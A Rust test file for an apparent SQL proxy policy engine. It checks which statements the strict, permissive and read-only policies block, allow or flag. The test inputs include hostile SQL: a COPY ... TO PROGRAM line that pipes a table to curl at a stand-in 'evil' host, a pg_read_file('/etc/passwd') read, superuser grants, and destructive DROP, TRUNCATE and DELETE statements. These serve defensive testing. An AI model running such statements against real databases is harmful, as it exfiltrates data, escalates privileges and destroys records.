//! Policy evaluation, field by field, and the three shipped policies against the bypass
//! shapes the proxy must stop.

use std::sync::Arc;

use shakedown_sql::classify::{Classification, TableName, TableOp, classify};
use shakedown_sql::policy::{
    Catalog, Decision, HoneypotHit, Policy, PolicyAction, PolicySeverity, RuleKind, SessionState,
    evaluate, load_policy,
};

fn policy(yaml: &str) -> Policy {
    match load_policy(yaml) {
        Ok((p, _warnings)) => p,
        Err(problems) => panic!("{}", problems.render("test.yaml")),
    }
}

fn shipped(name: &str) -> Policy {
    let path = format!("{}/../../policies/{name}.yaml", env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(&path).unwrap();
    match load_policy(&text) {
        Ok((p, warnings)) => {
            assert!(warnings.0.is_empty(), "{}", warnings.render(&path));
            p
        }
        Err(problems) => panic!("{}", problems.render(&path)),
    }
}

fn stmts(p: &Policy, sql: &str) -> Vec<Classification> {
    classify(sql, &p.classify_options())
}

fn decide_with(p: &Policy, sql: &str, state: &SessionState) -> Decision {
    let v = stmts(p, sql);
    assert_eq!(v.len(), 1, "{sql}");
    evaluate(p, &v[0], state)
}

fn decide(p: &Policy, sql: &str) -> Decision {
    decide_with(p, sql, &SessionState::default())
}

fn rules(d: &Decision) -> Vec<&str> {
    d.violations.iter().map(|v| v.rule.as_str()).collect()
}

fn blocked(p: &Policy, sql: &str) -> Decision {
    let d = decide(p, sql);
    assert_eq!(d.action, PolicyAction::Block, "{sql}: {d:#?}");
    d
}

fn allowed(p: &Policy, sql: &str) -> Decision {
    let d = decide(p, sql);
    assert_eq!(d.action, PolicyAction::Allow, "{sql}: {d:#?}");
    d
}

#[test]
fn strict_blocks_the_destructive_and_the_hidden() {
    let p = shipped("strict");
    for sql in [
        "DELETE FROM users",
        "delete from ORDERS",
        "UPDATE orders SET total = 0",
        "UPDATE orders SET total = 0 WHERE 1 = 1",
        "DROP TABLE users",
        "drop/* x */table users",
        "DROP VIEW v",
        "DROP FUNCTION f(int)",
        "TRUNCATE orders",
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "SELECT * FROM _system_secrets",
        "SELECT id FROM orders WHERE user_id IN (SELECT id FROM _system_secrets)",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM \"public\".\"_System_Secrets\")",
        "DO $$ BEGIN DELETE FROM users; END $$",
        "COPY orders TO PROGRAM 'curl -d @- http://evil'",
        "SELECT pg_read_file('/etc/passwd')",
        "GRANT ALL ON users TO bob",
        "UPDATE users SET password_hash = 'x' WHERE id = 1",
        "DELETE FROM audit_logs WHERE id = 1",
        "ALTER ROLE app SUPERUSER",
        "EXPLAIN ANALYZE DELETE FROM orders",
    ] {
        blocked(&p, sql);
    }
    let d = blocked(&p, "DELETE FROM orders");
    assert!(rules(&d).contains(&"require_where:orders:DELETE"));
    let d = blocked(&p, "DROP TABLE users");
    assert_eq!(d.severity, Some(PolicySeverity::Critical));
    assert!(
        d.error_message()
            .contains("DROP TABLE is strictly forbidden")
    );
    let d = blocked(&p, "SELECT * FROM _system_secrets");
    assert_eq!(
        d.honeypots,
        vec![HoneypotHit::Table(TableName::new(None, "_system_secrets"))]
    );
    let d = blocked(&p, "DO $$ BEGIN PERFORM 1; END $$");
    assert_eq!(d.violations[0].kind, RuleKind::Unparsed);
    // An unparsed statement that names a honeypot is still a honeypot access.
    let d = blocked(
        &p,
        "SELECT * FROM ONLY _system_secrets s TABLESAMPLE garbage(",
    );
    assert!(!d.honeypots.is_empty(), "{d:#?}");

    allowed(&p, "SELECT * FROM orders WHERE id = 1");
    allowed(&p, "BEGIN");
    allowed(&p, "EXPLAIN DELETE FROM orders");
    allowed(&p, "INSERT INTO orders (id, total) VALUES (1, 2)");
}

#[test]
fn strict_row_limits_become_row_checks() {
    let p = shipped("strict");
    let d = allowed(&p, "DELETE FROM users WHERE id > 5");
    let checks: Vec<String> = d.row_checks.iter().map(|c| c.to_string()).collect();
    assert_eq!(
        checks,
        vec![
            "needs row check: at most 100 rows for DELETE on users (error)",
            "needs row check: at most 500 rows for DELETE (error)",
        ]
    );
    assert_eq!(d.check_rows(100).action, PolicyAction::Allow);
    let out = d.check_rows(101);
    assert_eq!(out.action, PolicyAction::Block);
    assert_eq!(out.violations[0].rule, "row_limit:users:100");
    let out = d.check_rows(501);
    assert_eq!(out.violations.len(), 2);

    // A warning-level global limit only flags.
    let d = allowed(&p, "UPDATE orders SET total = 1 WHERE id > 5");
    assert_eq!(d.check_rows(1001).action, PolicyAction::Flag);
    assert_eq!(d.check_rows(1000).action, PolicyAction::Allow);

    // A limited write inside WITH cannot be counted from the command tag: refused up front.
    let d = blocked(
        &p,
        "WITH d AS (DELETE FROM users WHERE id > 5 RETURNING *) SELECT count(*) FROM d",
    );
    assert!(rules(&d).contains(&"row_limit:users:100"), "{d:#?}");
}

#[test]
fn permissive_flags_instead_of_blocking() {
    let p = shipped("permissive");
    allowed(&p, "DELETE FROM orders");
    allowed(&p, "DROP TABLE scratch");
    let d = decide(&p, "DO $$ BEGIN PERFORM 1; END $$");
    assert_eq!(d.action, PolicyAction::Flag);
    let d = blocked(&p, "SELECT * FROM _system_secrets");
    assert_eq!(d.severity, Some(PolicySeverity::Error));
    assert!(rules(&d).contains(&"row_limit:_system_secrets:0"));
    let d = allowed(&p, "DELETE FROM orders WHERE id < 100");
    assert_eq!(d.check_rows(6000).action, PolicyAction::Flag);
    blocked(&p, "DROP DATABASE prod");
}

#[test]
fn read_only_blocks_every_write_path() {
    let p = shipped("read_only");
    for sql in [
        "SELECT * FROM orders",
        "SELECT o.id FROM orders o JOIN users u ON u.id = o.uid WHERE u.id = 1",
        "SHOW search_path",
        "EXPLAIN SELECT * FROM orders",
        "EXPLAIN DELETE FROM orders",
        "BEGIN",
        "SET statement_timeout = 1000",
        "COMMIT",
    ] {
        allowed(&p, sql);
    }
    for sql in [
        "INSERT INTO orders (id) VALUES (1)",
        "UPDATE orders SET a = 1 WHERE id = 1",
        "DELETE FROM orders WHERE id = 1",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
        "EXPLAIN ANALYZE DELETE FROM orders",
        "SELECT * INTO copy_of_orders FROM orders",
        "CREATE TABLE t (a int)",
        "CREATE INDEX i ON orders (a)",
        "ALTER TABLE orders ADD COLUMN b int",
        "DROP TABLE orders",
        "TRUNCATE orders",
        "GRANT SELECT ON orders TO bob",
        "COPY orders FROM STDIN",
        "SELECT nextval('orders_id_seq')",
        "select SetVal('s', 1)",
        "CALL cleanup()",
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "LOCK TABLE orders",
        "VACUUM orders",
        "NOTIFY ch",
        "PREPARE p AS DELETE FROM orders",
    ] {
        blocked(&p, sql);
    }
}

#[test]
fn forbidden_sql_forms_severities_and_case() {
    let p = policy(
        r#"
name: t
forbidden_sql:
  - "drop\\s+table"
  - pattern: "pg_sleep"
    severity: warning
  - pattern: "SELECT 42"
    severity: info
    message: "the answer"
  - pattern: "Secret"
    case_sensitive: true
"#,
    );
    let d = blocked(&p, "DROP   TABLE x");
    assert_eq!(d.violations[0].rule, "forbidden_sql:drop\\s+table");
    assert_eq!(
        d.violations[0].message,
        "Matched forbidden pattern: drop\\s+table"
    );
    assert_eq!(d.violations[0].severity, PolicySeverity::Error);
    assert_eq!(decide(&p, "SELECT pg_sleep(1)").action, PolicyAction::Flag);
    let d = allowed(&p, "select 42");
    assert_eq!(d.violations[0].message, "the answer");
    allowed(&p, "SELECT 'secret'");
    blocked(&p, "SELECT 'Secret'");
    // Matched on the comment-stripped text: comments cannot split a keyword pair.
    blocked(&p, "DROP -- hidden\n TABLE x");

    // The `{patterns: [...]}` form and a null list.
    let p = policy("name: t\nforbidden_sql:\n  patterns:\n    - TRUNCATE\nrequired_sql: null\n");
    blocked(&p, "truncate t");
}

#[test]
fn required_sql_is_enforced_outside_session_control() {
    let p = policy(
        r#"
name: t
required_sql:
  patterns:
    - pattern: "\\bLIMIT\\b"
      severity: warning
      message: "queries should be bounded"
"#,
    );
    let d = decide(&p, "SELECT * FROM t");
    assert_eq!(d.action, PolicyAction::Flag);
    assert_eq!(d.violations[0].rule, "required_sql:\\bLIMIT\\b");
    allowed(&p, "SELECT * FROM t LIMIT 10");
    allowed(&p, "BEGIN");
    allowed(&p, "SET x = 1");
}

#[test]
fn table_restrictions_globs_defaults_and_columns() {
    let p = policy(
        r#"
name: t
table_restrictions:
  - table: "audit_*"          # default operations: DELETE, UPDATE, DROP, TRUNCATE
  - table: users
    operations: [update, INSERT, SELECT]
    require_where: false
    allowed_columns: [name, email, id]
  - table: public.payments
    operations: [DELETE]
    forbidden_columns: [amount]
"#,
    );
    let d = blocked(&p, "DELETE FROM audit_2024");
    assert_eq!(rules(&d), vec!["require_where:audit_2024:DELETE"]);
    allowed(&p, "DELETE FROM audit_2024 WHERE id = 1");
    allowed(&p, "INSERT INTO audit_2024 (a) VALUES (1)");
    blocked(&p, "TRUNCATE audit_x");
    allowed(&p, "UPDATE users SET name = 'a'");
    let d = blocked(&p, "UPDATE users SET role = 'admin' WHERE id = 1");
    assert_eq!(rules(&d), vec!["not_allowed_column:role"]);
    blocked(&p, "INSERT INTO users (name, is_admin) VALUES ('a', true)");
    allowed(&p, "INSERT INTO users (name, email) VALUES ('a', 'b')");
    // Without a column list INSERT writes every column.
    blocked(&p, "INSERT INTO users VALUES ('a', 'b')");
    allowed(&p, "SELECT name FROM users WHERE id = 1");
    blocked(&p, "SELECT password FROM users");
    // `*` needs the catalog to be judged.
    blocked(&p, "SELECT * FROM users");
    let mut cat = Catalog::new();
    for c in ["id", "name", "email"] {
        cat.add_column("public", "users", c);
    }
    let state = SessionState {
        in_transaction: false,
        catalog: Some(Arc::new(cat)),
    };
    assert_eq!(
        decide_with(&p, "SELECT * FROM users", &state).action,
        PolicyAction::Allow
    );
    // Schema-qualified restriction: matches that schema and unqualified names, not others.
    blocked(&p, "DELETE FROM payments");
    blocked(&p, "DELETE FROM public.payments");
    allowed(&p, "DELETE FROM other.payments");
}

#[test]
fn max_rows_zero_blocks_up_front_and_n_becomes_a_check() {
    let p = policy(
        r#"
name: t
table_restrictions:
  - table: ledger
    operations: [DELETE, UPDATE, SELECT]
    max_rows: 0
  - table: users
    operations: [DELETE, SELECT]
    require_where: false
    max_rows: 10
"#,
    );
    let d = blocked(&p, "DELETE FROM ledger WHERE id = 1");
    assert!(rules(&d).contains(&"row_limit:ledger:0"));
    blocked(&p, "SELECT * FROM ledger");
    let d = allowed(&p, "DELETE FROM users");
    assert_eq!(d.row_checks.len(), 1);
    assert_eq!(d.row_checks[0].table, Some(TableName::new(None, "users")));
    assert_eq!(d.row_checks[0].op, TableOp::Delete);
    assert!(d.check_rows(11).action == PolicyAction::Block);
    let d = allowed(&p, "SELECT * FROM users");
    assert_eq!(d.row_checks[0].op, TableOp::Select);
    // Plain EXPLAIN returns a plan, not rows.
    assert!(
        allowed(&p, "EXPLAIN SELECT * FROM users")
            .row_checks
            .is_empty()
    );
    // The read in `DELETE … USING users` is not what the DELETE tag counts.
    blocked(&p, "DELETE FROM t USING users WHERE t.u = users.id");
}

#[test]
fn row_limits_apply_by_operation() {
    let p = policy(
        r#"
name: t
row_limits:
  - operation: delete
    max_rows: 5
  - operation: SELECT
    max_rows: 1000
    action: warning
  - operation: TRUNCATE
    max_rows: 10
"#,
    );
    let d = allowed(&p, "DELETE FROM t WHERE id > 1");
    assert_eq!(d.row_checks.len(), 1);
    assert_eq!(d.row_checks[0].rule, "global_row_limit:DELETE:5");
    assert_eq!(d.check_rows(6).action, PolicyAction::Block);
    let d = allowed(&p, "SELECT * FROM a JOIN b ON true");
    assert_eq!(d.row_checks.len(), 1);
    assert_eq!(d.check_rows(1001).action, PolicyAction::Flag);
    // TRUNCATE reports no row count: the limit cannot be checked, so it blocks.
    blocked(&p, "TRUNCATE t");
    allowed(&p, "INSERT INTO t (a) VALUES (1)");
}

#[test]
fn honeypot_columns_tables_and_star_expansion() {
    let p = policy(
        r#"
name: t
honeypots:
  tables: [_system_secrets, "vault.*"]
  columns: [api_key]
  severity: warning
"#,
    );
    let d = decide(&p, "SELECT API_KEY FROM integrations");
    assert_eq!(d.action, PolicyAction::Flag);
    assert_eq!(d.honeypots, vec![HoneypotHit::Column("api_key".into())]);
    let d = decide(&p, "SELECT 1 FROM vault.keys");
    assert_eq!(
        d.honeypots,
        vec![HoneypotHit::Table(TableName::new(Some("vault"), "keys"))]
    );
    assert!(
        decide(&p, "SELECT * FROM integrations")
            .honeypots
            .is_empty()
    );
    let mut cat = Catalog::new();
    cat.add_column("public", "integrations", "id");
    cat.add_column("public", "integrations", "api_key");
    let state = SessionState {
        catalog: Some(Arc::new(cat)),
        ..Default::default()
    };
    let d = decide_with(&p, "SELECT * FROM integrations", &state);
    assert_eq!(d.honeypots, vec![HoneypotHit::Column("api_key".into())]);
    // Written columns count too.
    let d = decide(&p, "UPDATE integrations SET api_key = 'x' WHERE id = 1");
    assert!(d.honeypots.contains(&HoneypotHit::Column("api_key".into())));
}

#[test]
fn unknown_tables_need_a_catalog_or_known_tables() {
    let p = policy("name: t\nfail_on_unknown_table: true\n");
    let d = blocked(&p, "SELECT * FROM users");
    assert!(d.violations[0].message.contains("no catalog"));
    let cat = Catalog::from_rows([("public", "users", Some("id")), ("app", "orders", None)]);
    let state = SessionState {
        catalog: Some(Arc::new(cat)),
        ..Default::default()
    };
    let ok = |sql: &str| {
        assert_eq!(
            decide_with(&p, sql, &state).action,
            PolicyAction::Allow,
            "{sql}"
        )
    };
    let no = |sql: &str| {
        assert_eq!(
            decide_with(&p, sql, &state).action,
            PolicyAction::Block,
            "{sql}"
        )
    };
    ok("SELECT * FROM users");
    ok("SELECT * FROM public.users");
    ok("SELECT * FROM app.orders");
    no("SELECT * FROM orders"); // not on the search path
    no("SELECT * FROM ghosts");
    ok("SELECT * FROM pg_catalog.pg_type");
    ok("SELECT * FROM information_schema.tables");
    ok("WITH g AS (SELECT 1) SELECT * FROM g");
    ok("CREATE TABLE brand_new (a int)");
    no("CREATE INDEX i ON ghosts (a)");

    let p = policy("name: t\nfail_on_unknown_table: true\nknown_tables: [users, \"audit_*\"]\n");
    allowed(&p, "SELECT * FROM users JOIN audit_2024 ON true");
    blocked(&p, "SELECT * FROM orders");

    // The proxy keeps its catalog current with observe().
    let mut cat = Catalog::new();
    let create = &classify("CREATE TABLE fresh (a int)", &Default::default())[0];
    cat.observe(create);
    assert!(cat.contains(&TableName::new(Some("public"), "fresh")));
    cat.observe(&classify("DROP TABLE fresh", &Default::default())[0]);
    assert!(!cat.contains(&TableName::new(None, "fresh")));
}

#[test]
fn require_transaction_follows_the_session() {
    let p = policy("name: t\nrequire_transaction: true\n");
    let d = blocked(&p, "UPDATE t SET a = 1 WHERE id = 1");
    assert_eq!(rules(&d), vec!["require_transaction"]);
    allowed(&p, "SELECT * FROM t");
    allowed(&p, "BEGIN");
    let inside = SessionState {
        in_transaction: true,
        ..Default::default()
    };
    assert_eq!(
        decide_with(&p, "UPDATE t SET a = 1 WHERE id = 1", &inside).action,
        PolicyAction::Allow
    );
    // Within one query string the proxy advances the state statement by statement.
    let mut state = SessionState::default();
    let mut actions = Vec::new();
    for c in stmts(
        &p,
        "BEGIN; DELETE FROM t WHERE id = 1; COMMIT; DELETE FROM t WHERE id = 2",
    ) {
        actions.push(evaluate(&p, &c, &state).action);
        state.advance(&c);
    }
    use PolicyAction::*;
    assert_eq!(actions, vec![Allow, Allow, Allow, Block]);
    state.set_ready_status(b'T');
    assert!(state.in_transaction);
    state.set_ready_status(b'I');
    assert!(!state.in_transaction);
}

#[test]
fn max_query_length_counts_the_whole_string() {
    let p = policy("name: t\nmax_query_length: 40\n");
    allowed(&p, "SELECT 1");
    let v = stmts(&p, "SELECT 1; SELECT 2; SELECT 3; SELECT 4; SELECT 5");
    let d = evaluate(&p, &v[0], &SessionState::default());
    assert_eq!(d.action, PolicyAction::Block);
    assert!(d.violations[0].message.contains("maximum length (48 > 40)"));
    // Characters, not bytes.
    allowed(&p, "SELECT 'ééééééééééééééééééééééé'");
}

#[test]
fn unparsed_knob_and_size_cap() {
    let sql = "DO $$ BEGIN PERFORM 1; END $$";
    assert_eq!(
        decide(&policy("name: t\n"), sql).action,
        PolicyAction::Block
    );
    assert_eq!(
        decide(&policy("name: t\non_unparsed: flag\n"), sql).action,
        PolicyAction::Flag
    );
    let d = decide(&policy("name: t\non_unparsed: allow\n"), sql);
    assert_eq!(d.action, PolicyAction::Allow);
    assert_eq!(d.violations[0].severity, PolicySeverity::Info);

    let p = policy("name: t\nmax_statement_size: 64B\nmax_query_length: 100000\n");
    assert_eq!(p.classify_options().max_statement_bytes, 64);
    let d = blocked(&p, &format!("SELECT {}", "1, ".repeat(40) + "1"));
    assert_eq!(d.violations[0].kind, RuleKind::Oversized);
}

#[test]
fn statement_type_lists() {
    let p = policy("name: t\nforbidden_statement_types: [delete, COPY]\n");
    blocked(&p, "DELETE FROM t WHERE id = 1");
    blocked(
        &p,
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
    );
    blocked(&p, "COPY t TO STDOUT");
    allowed(&p, "SELECT * FROM t");
    let p = policy("name: t\nallowed_statement_types: [SELECT, INSERT]\n");
    allowed(&p, "INSERT INTO t (a) SELECT a FROM u");
    blocked(
        &p,
        "WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d",
    );
    blocked(&p, "BEGIN");
}

#[test]
fn highest_severity_wins() {
    let p = policy(
        r#"
name: t
forbidden_sql:
  - pattern: "orders"
    severity: warning
  - pattern: "drop"
    severity: critical
"#,
    );
    let d = decide(&p, "SELECT * FROM orders");
    assert_eq!(
        (d.action, d.severity),
        (PolicyAction::Flag, Some(PolicySeverity::Warning))
    );
    let d = decide(&p, "DROP TABLE orders");
    assert_eq!(
        (d.action, d.severity),
        (PolicyAction::Block, Some(PolicySeverity::Critical))
    );
    assert_eq!(d.violations.len(), 2);
    assert!(
        d.error_message()
            .starts_with("statement blocked by policy: Matched forbidden pattern: drop")
    );
}

#[test]
fn compiled_policy_and_engine_can_be_shared_across_tasks() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Policy>();
    assert_send_sync::<Catalog>();
    assert_send_sync::<SessionState>();
    assert_send_sync::<shakedown_sql::chaos::ChaosEngine>();
    assert_send_sync::<Classification>();
}
